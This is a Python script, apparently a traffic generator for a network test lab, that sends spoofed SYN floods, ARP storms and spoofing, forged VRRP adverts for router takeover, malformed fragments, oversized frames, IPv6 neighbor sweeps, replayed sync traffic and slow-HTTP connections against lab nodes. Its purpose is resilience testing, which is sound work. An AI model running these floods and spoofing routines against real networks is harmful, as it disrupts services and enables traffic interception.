"""An attacker of the lab: sends one kind of trouble for some seconds, then says how much of it.

Usage: attacker.py KIND SECONDS RATE, within a namespace of the lab, where `deploy/lab.sh attack` starts it. Frames go
out of the link that KIND says, RATE of them a second at most. Nothing here leaves the namespaces that lab.sh has made.
Deterministic: the same KIND sends the same frames. Prints a line of JSON: {"kind": ..., "sent": ..., "seconds": ...}.
"""

import json
import random
import resource
import select
import signal
import socket
import struct
import sys
import time

CHANCE = random.Random(50)
BROADCAST = bytes.fromhex("ffffffffffff")
NETWORK = bytes([192, 168, 2])
PREFIX6 = bytes.fromhex("20010db8000100000000000000000000")[:8]
VIRTUAL_MAC = bytes.fromhex("00005e000132")
VRRP_MAC = bytes.fromhex("01005e000012")
VRRP_GROUP = bytes([224, 0, 0, 18])
VRID = 50
VIRT, REAL_A, REAL_B, HOST, BACKEND, SERVER, SCANNER = 5, 4, 6, 20, 30, 10, 66
DECOYS = range(100, 250)
ADMIN = ("127.0.0.1", 7802)
SYNC_NODE = "10.0.0.1"
SYNC_PORT = 7800
BEAT_PORT = 7801
LARGEST_FRAME = 1514
POOL_FRAMES = 4096
SOL_PACKET, PACKET_VNET_HDR, ETH_P_ALL = 263, 15, 3


def own_mac(link):
    with open(f"/sys/class/net/{link}/address") as file:
        return bytes.fromhex(file.read().strip().replace(":", ""))


def some_mac():
    return bytes([2]) + CHANCE.randbytes(5)


def at(number):
    return NETWORK + bytes([number])


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ethernet(destination, source, kind, payload):
    return (destination + source + struct.pack("!H", kind) + payload).ljust(60, b"\0")


def ipv4(source, destination, protocol, payload, ttl=64, identifier=0, fragment=0):
    """fragment: the flags and the offset, as they stand in the header."""
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), identifier, fragment, ttl, protocol, 0, source, destination
    )
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def ipv6(source, destination, protocol, payload, hops=255):
    return struct.pack("!IHBB16s16s", 6 << 28, len(payload), protocol, hops, source, destination) + payload


def with_pseudo_header(source, destination, protocol, payload, place):
    """The payload with its checksum, which stands at `place`."""
    head = source + destination + struct.pack("!II", len(payload), protocol)
    return payload[:place] + struct.pack("!H", checksum(head + payload)) + payload[place + 2 :]


def tcp(source, destination, source_port, port, flags=0x02, data=b"", sequence=1):
    segment = struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, 5 << 4, flags, 64240, 0, 0) + data
    return with_pseudo_header(source, destination, 6, segment, 16)


def arp(operation, mac, sender, target, target_mac=bytes(6)):
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, operation, mac, sender, target_mac, target)


def advert(priority, address, vrid=VRID, version=3, bad_checksum=False):
    """An advert of RFC 9568 for IPv4, every 100 ms; the checksum goes over the message and the pseudo-header."""
    message = struct.pack("!BBBBHH4s", version << 4 | 1, vrid, priority, 1, 10, 0, address)
    message = with_pseudo_header(at(SCANNER), VRRP_GROUP, 112, message, 6)
    return message[:-1] + bytes([message[-1] ^ 1]) if bad_checksum else message


# ---- what goes out as frames


def syn_flood(mac):
    """SYNs from ever other addresses, to decoys and to the balanced server."""
    for _ in range(POOL_FRAMES):
        source = bytes([198, 18 + CHANCE.randrange(2)]) + CHANCE.randbytes(2)
        target = at(CHANCE.choice(DECOYS) if CHANCE.random() < 0.5 else SERVER)
        segment = tcp(source, target, CHANCE.randrange(1024, 65536), 80, sequence=CHANCE.getrandbits(32))
        yield ethernet(VIRTUAL_MAC, mac, 0x0800, ipv4(source, target, 6, segment))


def arp_storm(mac):
    """Requests for every address of the network, each from another MAC."""
    for _ in range(POOL_FRAMES):
        asking = some_mac()
        yield ethernet(BROADCAST, asking, 0x0806, arp(1, asking, at(SCANNER), at(CHANCE.randrange(1, 255))))


def arp_spoof(mac):
    """Claims: to decoys, to living machines, to the nodes' own addresses and the virtual one."""
    living = [VIRT, REAL_A, REAL_B, HOST, BACKEND, SERVER]
    for _ in range(POOL_FRAMES):
        yield claim(CHANCE.choice(living) if CHANCE.random() < 0.2 else CHANCE.choice(DECOYS))


def arp_claims(mac):
    """The same for decoys alone."""
    for _ in range(POOL_FRAMES):
        yield claim(CHANCE.choice(DECOYS))


def claim(number):
    liar = some_mac()
    return ethernet(BROADCAST, liar, 0x0806, arp(CHANCE.choice([1, 2]), liar, at(number), at(number)))


def forged_adverts(mac):
    """Adverts that nobody may follow: from beyond a router, broken, of other routers, for other addresses."""
    for number in range(POOL_FRAMES):
        ttl, message = [
            (64, advert(255, at(VIRT))),
            (255, advert(255, at(VIRT), bad_checksum=True)),
            (255, advert(255, at(VIRT), vrid=51)),
            (255, advert(255, at(VIRT), version=7)),
            (255, advert(255, at(VIRT))[: CHANCE.randrange(8)]),
        ][number % 5]
        yield ethernet(VRRP_MAC, VIRTUAL_MAC, 0x0800, ipv4(at(SCANNER), VRRP_GROUP, 112, message, ttl=ttl))


def higher_advert(mac):
    """Adverts as a node of higher priority would send them, which nothing tells from it."""
    yield ethernet(VRRP_MAC, VIRTUAL_MAC, 0x0800, ipv4(at(SCANNER), VRRP_GROUP, 112, advert(255, at(VIRT)), ttl=255))


def fragments(mac):
    """First fragments without an end, ends without a first one, overlapping and tiny ones."""
    for number in range(POOL_FRAMES):
        source, target = at(SCANNER), at(CHANCE.choice([SERVER, VIRT, CHANCE.choice(DECOYS)]))
        segment = tcp(source, target, CHANCE.randrange(1024, 65536), 80, data=bytes(64))
        more, piece = [
            (0x2000, segment),
            (0x2000 | CHANCE.randrange(1, 8000), CHANCE.randbytes(64)),
            (CHANCE.randrange(1, 8000), CHANCE.randbytes(32)),
            (0x2000, segment[:8]),
            (0x2001, segment[8:48]),
        ][number % 5]
        identifier = CHANCE.getrandbits(16)
        packet = ipv4(source, target, CHANCE.choice([1, 6, 17]), piece, identifier=identifier, fragment=more)
        yield ethernet(VIRTUAL_MAC, mac, 0x0800, packet)
        # The same for IPv6: a fragment header (44) in front of what claims to be a SYN.
        from6, to6 = PREFIX6 + bytes(7) + bytes([0x66]), PREFIX6 + bytes(6) + bytes([1, CHANCE.choice(DECOYS)])
        head = struct.pack("!BBHI", 6, 0, CHANCE.getrandbits(16) & 0xFFF9, identifier)
        yield ethernet(VIRTUAL_MAC, mac, 0x86DD, ipv6(from6, to6, 44, head + piece))


def oversized(mac):
    """Frames as large as the segment carries: pings and segments."""
    with open("/sys/class/net/eth0/mtu") as file:
        mtu = int(file.read())
    for number in range(POOL_FRAMES // 16):
        source, target = at(SCANNER), at(CHANCE.choice([SERVER, VIRT, CHANCE.choice(DECOYS)]))
        if number % 2:
            echo = struct.pack("!BBHHH", 8, 0, 0, 1, number) + bytes(mtu - 28)
            echo = echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:]
            packet = ipv4(source, target, 1, echo)
        else:
            packet = ipv4(source, target, 6, tcp(source, target, 2000 + number, 80, flags=0x18, data=bytes(mtu - 40)))
        yield ethernet(VIRTUAL_MAC, mac, 0x0800, packet)


def super_frames(mac):
    """What a kernel with segmentation offload hands over: 60,000 bytes to be cut, the checksum left to others."""
    for number in range(POOL_FRAMES // 16):
        source, target = at(SCANNER), at(CHANCE.choice([SERVER, VIRT, CHANCE.choice(DECOYS)]))
        segment = tcp(source, target, 2000 + number, 80, flags=0x18, data=bytes(60000))
        partial = ~checksum(source + destination_length(target, len(segment))) & 0xFFFF
        segment = segment[:16] + struct.pack("!H", partial) + segment[18:]
        # virtio_net_hdr: needs a checksum from byte 34 at 16, TCPv4, 54 bytes of headers, pieces of 1,448.
        offload = struct.pack("<BBHHHH", 1, 1, 54, 1448, 34, 16)
        yield offload + ethernet(VIRTUAL_MAC, mac, 0x0800, ipv4(source, target, 6, segment))


def destination_length(target, length):
    return target + struct.pack("!II", length, 6)


def neighbor_sweep(mac):
    """Solicitations for ever other addresses of the /64, each for its own group."""
    source = PREFIX6 + bytes(6) + bytes([0, 0x66])
    for _ in range(POOL_FRAMES * 8):
        target = PREFIX6 + CHANCE.randbytes(8)
        group = bytes.fromhex("ff0200000000000000000001ff") + target[-3:]
        message = struct.pack("!BBHI16sBB6s", 135, 0, 0, 0, target, 1, 1, mac)
        message = with_pseudo_header(source, group, 58, message, 2)
        yield ethernet(b"\x33\x33\xff" + target[-3:], mac, 0x86DD, ipv6(source, group, 58, message))


def send(link, frames, seconds, rate, offload=False):
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    if offload:
        out.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1)
    out.bind((link, 0))
    out.setblocking(False)
    pool = list(frames(own_mac(link)))
    began = time.monotonic()
    sent = refused = 0
    while (now := time.monotonic() - began) < seconds:
        for _ in range(min(int(now * rate) - sent - refused, 64)):
            try:
                out.send(pool[(sent + refused) % len(pool)])
                sent += 1
            except OSError:  # no room, or a link that takes no such frame
                refused += 1
        time.sleep(0.001)
    return {"sent": sent, "refused": refused}


# ---- what comes over connections


def sync_garbage(seconds, rate):
    """Strangers on the link between the nodes: connections that say nothing, that say garbage, that repeat what node B
    once said; datagrams of garbage and heartbeats of node B, sent again."""
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    tap.bind(("sync-b", 0))
    tap.setblocking(False)
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    wire.bind(("sync-a", 0))
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    recorded, said, held = [], [], []
    began = time.monotonic()
    counts = {"datagrams": 0, "replayed": 0, "connections": 0}
    steps = 0
    while (now := time.monotonic() - began) < seconds:
        while True:
            try:
                frame = tap.recv(65536)
            except OSError:
                break
            if len(frame) > 42 and frame[12:14] == b"\x08\x00" and frame[30:34] == socket.inet_aton(SYNC_NODE):
                if len(frame) <= LARGEST_FRAME:  # what segmentation offload hands over is no frame yet
                    recorded = (recorded + [with_checksum(frame)])[-512:]
                if frame[23] == 6 and len(frame) > 70:
                    said = (said + [frame[54:]])[-64:]
        for _ in range(min(int(now * rate) - steps, 32)):
            steps += 1
            if steps % 3 == 0 and recorded:
                wire.send(CHANCE.choice(recorded))
                counts["replayed"] += 1
            elif steps % 50 == 1:
                held.append(stranger(CHANCE.choice([b"", CHANCE.randbytes(4000), b"".join(said)[:32768]])))
                counts["connections"] += 1
                if len(held) > 200:
                    held.pop(0).close()
            else:
                datagrams.sendto(CHANCE.randbytes(CHANCE.randrange(1, 1400)), (SYNC_NODE, BEAT_PORT))
                counts["datagrams"] += 1
        time.sleep(0.001)
    return counts


def with_checksum(frame):
    """A frame as it would be on a cable: between namespaces the kernel leaves the sum to nobody."""
    length = struct.unpack("!H", frame[16:18])[0]
    head, segment = frame[:34], frame[34 : 14 + length]
    if frame[23] == 17:
        return head + segment[:6] + bytes(2) + segment[8:]
    if frame[23] == 6:
        return head + with_pseudo_header(frame[26:30], frame[30:34], 6, segment[:16] + bytes(2) + segment[18:], 16)
    return frame


def stranger(words):
    connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    connection.settimeout(0.5)
    try:
        connection.connect((SYNC_NODE, SYNC_PORT))
        connection.setblocking(False)
        connection.send(words)
    except OSError:
        pass  # it was turned away, as it should be
    return connection


def slow_clients(seconds, rate):
    """10,000 clients at the admin port, each of which sends a byte of its request now and then."""
    clients = 10_000
    resource.setrlimit(resource.RLIMIT_NOFILE, (clients + 100, clients + 100))
    request = b"GET /api/v1/status HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"x" * 4000
    began = time.monotonic()
    counts = {"connections": 0, "turned away": 0, "bytes": 0}
    poll = select.poll()
    live = {}
    while (now := time.monotonic() - began) < seconds:
        for _ in range(min(int(now * rate) - counts["connections"] - counts["turned away"], 256)):
            if counts["connections"] + counts["turned away"] >= clients:
                break
            client = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            client.setblocking(False)
            try:
                client.connect_ex(ADMIN)
                live[client.fileno()] = [client, 0]
                poll.register(client, select.POLLIN)
                counts["connections"] += 1
            except OSError:
                counts["turned away"] += 1
        for number, (client, place) in list(live.items())[:: max(1, len(live) // 500)]:
            try:
                client.send(request[place : place + 1])
                live[number][1] += 1
                counts["bytes"] += 1
            except OSError:
                pass  # not yet connected, or cut: the poll says which
        for number, _ in poll.poll(1):
            client, _ = live.pop(number)
            poll.unregister(number)
            client.close()
            counts["turned away"] += 1
            counts["connections"] -= 1
    counts["still open"] = len(live)
    return counts


FRAMES = {
    "syn-flood": syn_flood,
    "arp-storm": arp_storm,
    "arp-spoof": arp_spoof,
    "arp-claims": arp_claims,
    "vrrp-forged": forged_adverts,
    "vrrp-higher": higher_advert,
    "fragments": fragments,
    "jumbo": oversized,
    "super-frames": super_frames,
    "neighbor-sweep": neighbor_sweep,
}
CONNECTIONS = {"sync-garbage": sync_garbage, "slow-http": slow_clients}


def main():
    kind, seconds, rate = sys.argv[1], float(sys.argv[2]), float(sys.argv[3])
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    began = time.monotonic()
    if kind in FRAMES:
        counts = send("eth0", FRAMES[kind], seconds, rate, offload=kind == "super-frames")
    else:
        counts = CONNECTIONS[kind](seconds, rate)
    print(json.dumps({"kind": kind, **counts, "seconds": round(time.monotonic() - began, 1)}), flush=True)


main()
